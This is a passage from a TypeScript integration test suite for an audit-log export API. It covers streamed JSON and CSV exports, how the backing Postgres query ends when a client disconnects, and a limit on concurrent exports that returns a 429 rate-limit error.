        headers: { authorization: `Bearer ${auditor.token}` },
      });
      assert.equal(res.status, 200);
      let lines = 0;
      let bytes = 0;
      for await (const chunk of res.body as unknown as AsyncIterable<Uint8Array>) {
        bytes += chunk.length;
        for (const byte of chunk) if (byte === 10) lines++;
      }
      assert.equal(lines, BULK);
      assert.ok(bytes > BULK * 1000, `${bytes} bytes`);
      await eventually('the export connection closes', async () => (await exportBackends()) === 0);
    });

    it('a client that stops reading holds the query; going away stops it', async () => {
      const open = await openPaused(`/api/v1/audit/decisions?queue=${bulk.slug}`, auditor.token);
      assert.equal(open.res.statusCode, 200);
      // The reader is behind: Postgres is left waiting on its socket, the query not finished.
      await eventually('an export backend is running', async () => (await exportBackends()) === 1);
      const { rows } = await db.query(
        `SELECT state, query FROM pg_stat_activity WHERE application_name = 'arbiter-export'`,
      );
      assert.equal(rows[0].state, 'active');
      assert.match(rows[0].query, /^COPY/);
      open.destroy();
      await eventually(
        'the query stops when the client goes away',
        async () => (await exportBackends()) === 0,
      );
    });

    it(`at most ${MAX_CONCURRENT_EXPORTS} exports run at once; the next is 429 RATE_LIMITED`, async () => {
      const open = [];
      for (let i = 0; i < MAX_CONCURRENT_EXPORTS; i++)
        open.push(await openPaused(`/api/v1/audit/decisions?format=csv&queue=${bulk.slug}`, admin));
      const refused = await api.client.get(`/api/v1/audit/events`, { token: admin });
      assert.equal(refused.status, 429);
      assert.equal(refused.body.code, 'RATE_LIMITED');
      assert.ok(refused.headers.get('retry-after'));
      for (const o of open) o.destroy();
      await eventually('every export connection closes', async () => (await exportBackends()) === 0);
      const again = await exportRaw(`/api/v1/audit/events?limit=1`, admin);
      assert.equal(again.status, 200);
    });

    it('the CSV of a large export has one line per row after the header', async () => {
      const res = await exportRaw(`/api/v1/audit/decisions?format=csv&queue=${bulk.slug}`, auditor.token);
      assert.equal(res.status, 200);
      assert.equal(res.text.split('\n').length - 1, BULK + 1);
    });
  });
});
